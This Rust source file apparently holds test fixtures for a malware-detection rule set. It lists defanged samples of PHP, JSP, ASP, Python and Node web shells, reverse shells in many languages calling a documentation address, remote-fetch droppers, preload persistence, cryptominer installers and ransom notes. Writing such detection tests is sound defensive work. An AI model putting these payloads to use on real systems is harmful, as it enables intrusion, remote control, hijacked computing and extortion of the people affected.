//! Samples that the rules were written against: one for each technique that they claim.
//!
//! Inert text, cut by [`crate::CUT`] inside the words that matter, so that this file matches
//! nothing; the cuts are taken out when a test runs. Addresses are of documentation ranges.

use crate::Sample;

/// Web shells.
pub(crate) const WEBSHELLS: &[Sample] = &[
    ("php only", "webshell_php_only", "<?php @ev¦al($_PO¦ST['x']);?>"),
    (
        "php only, gif",
        "webshell_php_only",
        "GIF89a\n<?php sys¦tem($_GE¦T[\"c\"]); ?>",
    ),
    (
        "php only, if",
        "webshell_php_only",
        "<?php\nif(isset($_REQ¦UEST['cmd'])){\n  sys¦tem($_REQ¦UEST['cmd']);\n}\n",
    ),
    ("php only, echo", "webshell_php_only", "<?=`$_GE¦T[0]`?>"),
    (
        "php only, pre",
        "webshell_php_only",
        "<?php echo '<pre>' . shell_¦exec($_GE¦T['cmd']) . '</pre>';",
    ),
    (
        "php nested",
        "webshell_php",
        "<html><?php $p = 1; ev¦al(base64_de¦code($_PO¦ST['z0'])); ?></html>",
    ),
    (
        "php input",
        "webshell_php",
        "<?php\n// page\nev¦al(file_get_¦contents('php://in¦put'));",
    ),
    (
        "php headers",
        "webshell_php",
        "<?php $a=1;\nsys¦tem(getallhea¦ders()['X-Run']);",
    ),
    (
        "php function choice",
        "webshell_php",
        "<?php $x = 3; echo $_GE¦T['f']($_GE¦T['a']);",
    ),
    (
        "php array_map",
        "webshell_php",
        "<?php array_¦map($_PO¦ST['f'], array($_PO¦ST['a']));",
    ),
    (
        "php array_filter",
        "webshell_php",
        "<?php $a=array($_PO¦ST['x']); array_fil¦ter(array(1), base64_¦decode($_PO¦ST['k']));",
    ),
    ("php usort", "webshell_php", "<?php uso¦rt($a, $_GE¦T['cb']);"),
    (
        "php call sink",
        "webshell_php",
        "<?php call_user_¦func('ass¦ert', $_PO¦ST['q']);",
    ),
    (
        "php preg e",
        "webshell_php",
        "<?php preg_re¦place('/.*/e', $_PO¦ST['c'], 'x');",
    ),
    (
        "php variable",
        "webshell_php",
        "<?php\n$cmd = $_GE¦T['cmd'];\n$cmd = trim($cmd);\npass¦thru($cmd . ' 2>&1');\n",
    ),
    (
        "php variable, assert",
        "webshell_php",
        "<?php $k=\"a\"; $v=$_COO¦KIE['k']; @ass¦ert($v);",
    ),
    (
        "php dynamic",
        "webshell_php",
        "<?php $f = chr(115).'x'; $f($_PO¦ST['a']);",
    ),
    (
        "php chain",
        "webshell_php",
        "<?php ev¦al(gzin¦flate(base64_¦decode('S0ktLlFQV1cHAA==')));",
    ),
    (
        "php cut name",
        "webshell_php",
        "<?php $f='sys'.'t¦em'; $f($_GE¦T['c']);",
    ),
    (
        "php reversed",
        "webshell_php",
        "<?php $f=strrev('met¦sys'); $x=$f($_SER¦VER['HTTP_X']); ?>",
    ),
    (
        "php base64 name",
        "webshell_php",
        "<?php $f=base64_decode('c3lz¦dGVt'); $y = $_GE¦T['c']; echo $f(\"$y\");",
    ),
    (
        "php hex escapes",
        "webshell_php",
        r#"<?php $f="\x73\x79¦\x73\x74\x65\x6d"; $q=$_REQ¦UEST["q"]; echo $f($q);"#,
    ),
    (
        "php rot13",
        "webshell_php",
        "<?php $f=str_rot13('nff¦reg'); $q=$_PO¦ST['q']; $f($q);",
    ),
    (
        "php noise",
        "webshell_php",
        "<?php $f=str_rep¦lace('zx','','szxyszxtem¦zx'); $w=$_GE¦T['w']; $f($w);",
    ),
    (
        "php xor",
        "webshell_php",
        r#"<?php $_=("!"^¦"@").("("^¦"["); $__=${"_".("/"^¦"`")}; $_($__[0]);"#,
    ),
    (
        "php increments",
        "webshell_php",
        "<?php $_=[]¦.'';$_=$_[0];$_+¦+;$_+¦+;$_+¦+;$__=$_; $__($_¦[1]);",
    ),
    (
        "php writer",
        "webshell_php",
        "<?php file_put_¦contents($_GE¦T['p'], $_PO¦ST['b']);",
    ),
    (
        "php fetcher",
        "webshell_php",
        "<?php copy($_GE¦T['u'], $_GE¦T['d']);",
    ),
    (
        "php image",
        "webshell_php_in_image",
        "\u{0}<?php $z = 1; sys¦tem($_GE¦T['c']);",
    ),
    (
        "php console",
        "webshell_php_manager",
        "<?php $c=$_POS¦T['c'];\nfunction run($c){ if(function_exists('sys¦tem')){ sys¦tem($c);} \n else if(1){ echo shell_¦exec($c); } else { pass¦thru($c);} }\n echo php_¦uname(); echo ini_get('disable_¦functions'); echo get_current_¦user(); run($c);",
    ),
    (
        "jsp direct",
        "webshell_jsp",
        "<%@ page import=\"java.io.*\" %><% Runtime.getRun¦time().exec(request.getPara¦meter(\"c\")); %>",
    ),
    (
        "jsp output",
        "webshell_jsp",
        "<html><%\nString c = request.getPara¦meter(\"c\");\nProcess p = new Process¦Builder(\"sh\",\"-c\",c).start();\nInputStream in = p.getInput¦Stream();\n%></html>",
    ),
    (
        "jsp class loader",
        "webshell_jsp",
        "<%!class U extends Class¦Loader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.define¦Class(b,0,b.length);}}%><% String k=request.getRea¦der().readLine(); new U(this.getClass().getClassLoader()).g(k.getBytes()).new¦Instance().equals(pageContext);%>",
    ),
    (
        "jsp reflection",
        "webshell_jsp",
        "<% Class c = Class.for¦Name(new String(new byte[]{106,97¦,118,97,46}));Object o=c.getMeth¦od(\"x\").in¦voke(null); String s=request.getHea¦der(\"q\"); %>",
    ),
    (
        "jsp engine",
        "webshell_jsp",
        "<% new javax.script.ScriptEngine¦Manager().getEngineByName(\"js\").ev¦al(request.getPara¦meter(\"e\")); %>",
    ),
    (
        "jsp writer",
        "webshell_jsp",
        "<% new java.io.FileOutput¦Stream(request.getPara¦meter(\"f\")).write(request.getPara¦meter(\"t\").getBytes()); %>",
    ),
    (
        "jsp filter",
        "webshell_jsp",
        "<% Field f = x.getDeclared¦Field(\"context\"); Standard¦Context s = (StandardContext) f.get(x); s.addFilter¦Def(d); s.addFilterMapBefore(m); %>",
    ),
    (
        "jsp escapes",
        "webshell_jsp",
        r"<% \u0052\u0075\u006e\u0074\u0069\u006d\u0065\u002e\u0067\u0065\u0074¦\u0052\u0075\u006e\u0074\u0069\u006d\u0065\u0028\u0029\u002e\u0065\u0078\u0065\u0063 %>",
    ),
    (
        "python flask",
        "webshell_python",
        "from flask import *\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return os.pop¦en(request.ar¦gs.get('c')).read()\n",
    ),
    (
        "python variable",
        "webshell_python",
        "class H(BaseHTTP¦RequestHandler):\n  def do_GET(self):\n    q = parse_¦qs(urlparse(self.path).query)\n    c = q['c'][0]\n    o = subprocess.check_¦output(c, shell=True)\n    self.wfile.write(o)\n",
    ),
    (
        "python memory",
        "webshell_python",
        "app.before_request_¦funcs.setdefault(None, []).append(lam¦bda: __import__('os').pop¦en('id').read())",
    ),
    ("asp classic", "webshell_asp", "<%ev¦al requ¦est(\"x\")%>"),
    (
        "asp jscript",
        "webshell_asp",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Requ¦est.Item[\"x\"],\"unsafe\");%>",
    ),
    (
        "aspx command",
        "webshell_asp",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void R(){ var p=new ProcessStart¦Info(\"cmd¦.exe\",\"/c \"+Request.Form[\"c\"]); p.RedirectStandard¦Output=true; }</script>",
    ),
    (
        "perl cgi",
        "webshell_perl",
        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\nmy $c = $q->par¦am('c');\nprint `$c`;\n",
    ),
    (
        "node direct",
        "webshell_node",
        "const cp=require('child_¦process');app.get('/',(req,res)=>{cp.ex¦ec(req.qu¦ery.c,(e,o)=>res.send(o))});",
    ),
    (
        "node variable",
        "webshell_node",
        "const {exec}=require('child_¦process');require('http').createServer((req,res)=>{const c = new URL(req.ur¦l,'http://x').searchParams.get('c'); ex¦ec(c,(e,o)=>res.end(o));}).listen(80);",
    ),
];

/// Shells on a connection.
pub(crate) const SHELLS: &[Sample] = &[
    (
        "bash",
        "reverse_shell_sh",
        "bash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n",
    ),
    (
        "sh, udp",
        "reverse_shell_sh",
        "#!/bin/sh\nsh -i >& /dev/u¦dp/192.0.2.1/53 0>&1\n",
    ),
    (
        "bash 196",
        "reverse_shell_sh",
        "0<&196;exec 196<>/dev/t¦cp/192.0.2.1/4444; sh <&196 >&196 2>&196",
    ),
    (
        "bash read",
        "reverse_shell_sh",
        "#!/bin/bash\nexec 5<>/dev/t¦cp/192.0.2.1/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
    ),
    (
        "nc -e",
        "reverse_shell_sh",
        "#!/bin/sh\nnc 192.0.2.1 4444 -¦e /bin/sh\n",
    ),
    (
        "ncat -c",
        "reverse_shell_sh",
        "ncat --ssl 192.0.2.1 4444 --sh-ex¦ec /bin/bash",
    ),
    ("nc bind", "reverse_shell_sh", "nc -l¦vp 4444 -¦e /bin/bash"),
    (
        "mkfifo",
        "reverse_shell_sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/s¦h -i 2>&1|n¦c 192.0.2.1 4444 >/tmp/f",
    ),
    (
        "openssl",
        "reverse_shell_sh",
        "mkfifo /tmp/s; /bin/s¦h -i < /tmp/s 2>&1 | openssl s_cl¦ient -quiet -connect 192.0.2.1:443 > /tmp/s; rm /tmp/s",
    ),
    (
        "telnet",
        "reverse_shell_sh",
        "TF=$(mktemp -u);mkfifo $TF && telnet 192.0.2.1 4444 0<$TF | s¦h 1>$TF",
    ),
    (
        "two telnets",
        "reverse_shell_sh",
        "telnet 192.0.2.1 4444 | /bin/s¦h | teln¦et 192.0.2.1 4445",
    ),
    (
        "socat",
        "reverse_shell_sh",
        "socat exec:'bash -li¦',pty,stderr,setsid tc¦p:192.0.2.1:4444",
    ),
    (
        "socat listen",
        "reverse_shell_sh",
        "socat TCP-LIS¦TEN:4444,reuseaddr,fork EX¦EC:/bin/sh,pty",
    ),
    (
        "awk",
        "reverse_shell_sh",
        "awk 'BEGIN {s = \"/in¦et/tcp/0/192.0.2.1/4444\"; while(42) { do{ printf \"> \" |& s; s |& getl¦ine c; if(c){ while ((c |& getl¦ine) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    ),
    (
        "zsh",
        "reverse_shell_sh",
        "zsh -c 'zmodload zsh/net/tcp && zt¦cp 192.0.2.1 4444 && zsh >&$REP¦LY 2>&$REPLY 0>&$REPLY'",
    ),
    (
        "python",
        "reverse_shell_python",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.con¦nect((\"192.0.2.1\",4444));[os.du¦p2(s.fileno(),f) for f in(0,1,2)];pty.spa¦wn(\"/bin/sh\")'",
    ),
    (
        "python call",
        "reverse_shell_python",
        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.con¦nect((\"192.0.2.1\",4444))\nos.du¦p2(s.fileno(),0)\nos.du¦p2(s.fileno(),1)\nsubprocess.ca¦ll([\"/bin/sh\",\"-i\"])\n",
    ),
    (
        "python loop",
        "reverse_shell_python",
        "import socket,subprocess\ns=socket.sock¦et()\ns.con¦nect(('192.0.2.1',4444))\nwhile True:\n  d=s.re¦cv(1024).decode()\n  p=subprocess.Pop¦en(d, shell=True, stdout=-1)\n  s.se¦nd(p.stdout.read())\n",
    ),
    (
        "perl",
        "reverse_shell_perl",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(con¦nect(S,sockaddr_in(4444,inet_aton(\"192.0.2.1\")))){open(STD¦IN,\">&S\");open(STD¦OUT,\">&S\");ex¦ec(\"/bin/sh -i\");};'",
    ),
    (
        "perl io",
        "reverse_shell_perl",
        "perl -MIO -e '$c=new IO::Socket::IN¦ET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdo¦pen($c,r);$~->fdo¦pen($c,w);sys¦tem$_ while<>;'",
    ),
    (
        "ruby",
        "reverse_shell_ruby",
        "ruby -rsocket -e 'f=TCPSock¦et.open(\"192.0.2.1\",4444).to_i;ex¦ec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ),
    (
        "ruby loop",
        "reverse_shell_ruby",
        "require 'socket'; c=TCPSock¦et.new('192.0.2.1','4444');while(cmd=c.ge¦ts);IO.pop¦en(cmd,'r'){|io|c.print io.read}end",
    ),
    (
        "php",
        "reverse_shell_php",
        "php -r '$s=fsock¦open(\"192.0.2.1\",4444);ex¦ec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ),
    (
        "php long",
        "reverse_shell_php",
        "<?php $s = fsock¦open($ip, $port); $d = array(0 => array('pipe', 'r')); $p = proc_o¦pen($shell, $d, $pipes); $shell='/bin/s¦h -i'; stream_sel¦ect($r, $w, $e, null); fwr¦ite($pipes[0], $in); fre¦ad($pipes[1], 1400);",
    ),
    (
        "node",
        "reverse_shell_node",
        "(function(){var net=require('n¦et'),cp=require('child_process'),sh=cp.spa¦wn('/bin/sh',[]);var c=new net.Socket();c.conn¦ect(4444,'192.0.2.1',function(){c.pi¦pe(sh.stdin);sh.stdout.pi¦pe(c);});})();",
    ),
    (
        "lua",
        "reverse_shell_lua",
        "local s=require('socket');local t=assert(s.tc¦p());t:con¦nect('192.0.2.1',4444);while true do local r=t:rece¦ive();local f=assert(io.pop¦en(r,'r'));local b=f:read('*a');t:se¦nd(b) end",
    ),
    (
        "go",
        "reverse_shell_lua",
        "package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Di¦al(\"tcp\",\"192.0.2.1:4444\");cmd:=exec.Com¦mand(\"/bin/sh\");cmd.Std¦in=c;cmd.Std¦out=c;cmd.Run()}",
    ),
    (
        "base64",
        "reverse_shell_sh",
        "echo YmFzaCAtaSA+JiAvZGV2L3¦RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYx | base64 ¦-d | bash",
    ),
];

/// Droppers, miners and notes that are text.
pub(crate) const TEXTS: &[Sample] = &[
    (
        "memfd perl",
        "script_memfd",
        "#!/usr/bin/perl\nuse LWP::Simple;\nmy $f = sysc¦all(319, \"\", 1);\nopen(my $h, '>&='.$f); print $h get('http://192.0.2.1/x');\nex¦ec {\"/proc/$$/f¦d/$f\"} 'x';\n",
    ),
    (
        "memfd python",
        "script_memfd",
        "import os, urllib.request\nf = os.memfd_cr¦eate('')\nos.write(f, urllib.request.url¦open('http://192.0.2.1/x').read())\nos.ex¦ecv('/proc/self/f¦d/%d' % f, ['x'])\n",
    ),
    (
        "each architecture",
        "script_fetch_run_each",
        "#!/bin/sh\nwg¦et http://192.0.2.1/a.mips; chm¦od +x a.mips; ./a.mips; rm -rf a.mips\nwg¦et http://192.0.2.1/a.arm7; chm¦od +x a.arm7; ./a.arm7; rm -rf a.arm7\nwg¦et http://192.0.2.1/a.sh4; chm¦od 777 a.sh4; ./a.sh4\n",
    ),
    (
        "preload",
        "script_preload_installer_hidden",
        "#!/bin/sh\necho /dev/shm/.x.so > /etc/ld.so.pre¦load\n",
    ),
    (
        "preload locked",
        "script_preload_installer_hidden",
        "#!/bin/sh\necho /usr/lib/a.so >> /etc/ld.so.pre¦load; chattr +¦i /etc/ld.so.pre¦load\n",
    ),
    (
        "miner config",
        "miner_config",
        "{ \"autosave\": true, \"donate-le¦vel\": 0, \"randomx\": {\"mode\": \"auto\"}, \"po¦ols\": [ { \"algo\": \"rx/0\", \"url\": \"pool.example:3333\", \"user\": \"w\", \"keepalive\": true } ] }",
    ),
    (
        "miner command",
        "miner_command",
        "#!/bin/sh\n./w -o stratum+t¦cp://pool.example:3333 -u 0123456789abcdef0123456789 -p x &\n",
    ),
    (
        "miner login",
        "miner_pool_login",
        "s.send('{\"id\":1,\"jsonrpc\":\"2.0\",\"meth¦od\":\"login\",\"params\":{\"log¦in\":\"w\",\"pass\":\"x\"}}')\ns.send('{\"id\":2,\"meth¦od\":\"submit\",\"params\":{\"i¦d\":\"1\",\"job_id\":\"2\"}}')",
    ),
    (
        "miner installer",
        "miner_installer",
        "#!/bin/bash\npki¦ll -f xmrig\nps aux | grep kins¦ing | awk '{print $2}' | xargs kill -9\nsysctl -w vm.nr_huge¦pages=128\ncurl -s http://192.0.2.1/w -o /tmp/w\n(crontab -l; echo '* * * * * /tmp/w') | cron¦tab -\n",
    ),
    (
        "note",
        "ransom_note_with",
        "All of your files have been encr¦ypted.\nThe only way to recover your files is our decr¦yptor.\nDo not try to decr¦ypt files yourself, do not ren¦ame them.\nPay 2 BT¦C in bitcoin. Write to someone@proton¦mail.com within 72 hours. Your personal id: 1\n",
    ),
    (
        "database note",
        "ransom_database",
        "All your data is backed ¦up. You must pay 0.01 BT¦C to 1Abcdefghijkmnopqrstuvwxyz1234567 In 48 hours.",
    ),
];

/// For the rules that only warn.
pub(crate) const MORE: &[Sample] = &[
    (
        "fetch and hide",
        "script_fetch_run_hidden",
        "#!/bin/sh\ncurl -s http://192.0.2.¦1/k -o /tmp/.k; chmod +x /tmp/.k; noh¦up /tmp/.k >/dev/null &\n",
    ),
    (
        "preload",
        "script_preload_installer",
        "#!/bin/sh\necho /opt/agent/lib.so > /etc/ld.so.pre¦load\n",
    ),
    (
        "jsp bean",
        "webshell_jsp_deserializes",
        "<%@ page %><% new java.beans.XMLDe¦coder(new ByteArrayInputStream(request.getPara¦meter(\"b\").getBytes())).readObject(); %>",
    ),
    (
        "aspx assembly",
        "webshell_aspx_assembly",
        "<%@ Page Language=\"C#\"%><% Assembly.Lo¦ad(Convert.FromBase64¦String(Request.Form[\"a\"])).CreateInst¦ance(\"U\").Equals(this); %>",
    ),
    (
        "asp inside",
        "webshell_asp_eval_of_request_inside",
        "<html><body><h1>Catalogue</h1><p>Prices are without tax.</p></body></html><%ev¦al requ¦est(\"x\")%>",
    ),
    (
        "php decoded",
        "webshell_php_decoded_eval",
        "<?php ev¦al(base64_de¦code('ZWNobyAxOyAvLyBoZWxsbyB3b3JsZA=='));",
    ),
    (
        "php uploader",
        "webshell_php_bare_uploader",
        "<?php move_uploaded_¦file($_FI¦LES['f']['tmp_name'], $_FI¦LES['f']['name']);",
    ),
    (
        "php include",
        "webshell_php_includes_request",
        "<?php incl¦ude($_GE¦T['page']);",
    ),
    (
        "php prepended",
        "webshell_php_prepended",
        "auto_prepend_¦file = logo.png\n",
    ),
    (
        "python encoded",
        "webshell_python_encoded",
        "import zlib, base64\nex¦ec(zlib.decomp¦ress(base64.b64de¦code('eJwrKMrMKwEABkMCHQ==')))\n",
    ),
];

/// Samples that need a certain length: name, rule, file.
pub(crate) fn long() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let program = format!(
        "#!/bin/sh\necho f0VM¦RgIB{}|base64 -d>/tmp/x; chmod +x /tmp/x\n",
        "A".repeat(420)
    );
    let chapter = format!(
        "{}\nbash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n",
        "word ".repeat(2000)
    );
    let console = format!(
        "<?php // {}\nev¦al(file_get_¦contents('php://in¦put'));",
        "word ".repeat(1000)
    );
    [
        ("program as text", "script_embedded_elf", program),
        ("handbook", "reverse_shell_sh_text", chapter),
        ("console", "webshell_php_evaluates_input", console),
    ]
    .map(|(name, rule, text)| (name, rule, crate::whole(&text).into_bytes()))
    .to_vec()
}
